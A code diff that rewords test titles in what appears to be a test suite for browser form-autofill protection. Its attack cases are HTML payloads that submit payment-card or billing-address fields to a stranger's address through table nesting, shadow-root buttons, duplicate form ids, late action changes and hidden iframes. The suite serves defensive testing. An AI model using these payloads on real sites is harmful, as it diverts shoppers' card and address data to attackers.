@@ -15,25 +15,25 @@ const address =
 /** Forms that send their fields to another address than it seems. */
 export const sendingAttacks: readonly Attack[] = [
   {
-    title: 'the form of the fields does not stand around them, as a table makes it',
+    title: 'a table separates the form element from its fields, which submit to a stranger',
     pages: (at) => ({
       shop: `<table><form action="${at('stranger')}" method="post"><tr><td>${fields}</td></tr></form></table>`,
     }),
   },
   {
-    title: 'a button in the same shadow root sends the form to a stranger',
+    title: 'a button in the same shadow root submits the form to a stranger',
     pages: (at) => ({
       shop: inRoot(`<form action="/pay">${fields}<button formaction="${at('stranger')}">Pay</button></form>`),
     }),
   },
   {
-    title: 'two forms have one name, and the one in the shadow root sends to a stranger',
+    title: 'two forms have the same id, and the one in the shadow root submits to a stranger',
     pages: (at) => ({
       shop: `<form id="f" action="/pay"></form>${inRoot(`<form id="f" action="${at('stranger')}"></form><p>${fields.replaceAll('<input', '<input form="f"')}</p>`)}`,
     }),
   },
   {
-    title: 'a button in the same shadow root sends to a stranger after the confirmation',
+    title: 'a button that submits to a stranger is added to the shadow root after the confirmation',
     pages: () => ({ shop: inRoot(`<form action="/pay">${fields}</form>`) }),
     meanwhile: (page, at) =>
       page.evaluate(
@@ -46,13 +46,13 @@ export const sendingAttacks: readonly Attack[] = [
       ),
   },
   {
-    title: 'the address of the shop is sent to a stranger',
+    title: 'the form of the billing address submits to a stranger',
     pages: (at) => ({ shop: `${cardForm()}<form action="${at('stranger')}">${address}</form>` }),
     allows: '#n, #e, #c',
     isFilled: true,
   },
   {
-    title: 'the address is sent to a stranger after the confirmation',
+    title: 'the address form’s action changes to a stranger’s site after the confirmation',
     pages: () => ({ shop: `${cardForm()}<form id="a" action="/address">${address}</form>` }),
     meanwhile: (page, at) =>
       page.evaluate((to) => document.getElementById('a')!.setAttribute('action', to), at('stranger')),
@@ -60,7 +60,7 @@ export const sendingAttacks: readonly Attack[] = [
     isFilled: true,
   },
   {
-    title: 'the address moves into a hidden document after the confirmation',
+    title: 'the address form is moved into a hidden document after the confirmation',
     pages: () => ({
       shop: `${cardForm()}<form id="a" action="/address">${address}</form><iframe id="h" srcdoc="<body>" style="opacity:0"></iframe>`,
     }),
